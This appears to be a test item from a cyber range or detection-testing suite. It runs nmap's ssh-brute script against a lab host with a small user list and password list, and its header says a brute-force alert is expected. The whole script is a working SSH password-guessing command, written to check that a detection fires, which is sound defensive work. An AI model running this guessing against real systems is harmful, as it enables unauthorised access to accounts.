# SPDX-License-Identifier: Apache-2.0
# what: passwords guessed at ssh by nmap
# technique: T1110.001
# from: ws1
# to: lin1
# account: -
# outcome: success
# must: alert brute
. "$RANGE_HERE/item.sh"
printf 'root\nadmin\nop\n' >"$HOME/u"
{ passwords 14; echo "$UNIX_PASSWORD"; } >"$HOME/p"
says 'Accounts|Statistics' timeout 60 nmap -n -Pn -p 22 --script ssh-brute --script-args "userdb=$HOME/u,passdb=$HOME/p,brute.firstonly=1,brute.emptypass=false,unpwdb.timelimit=20s" $lin1
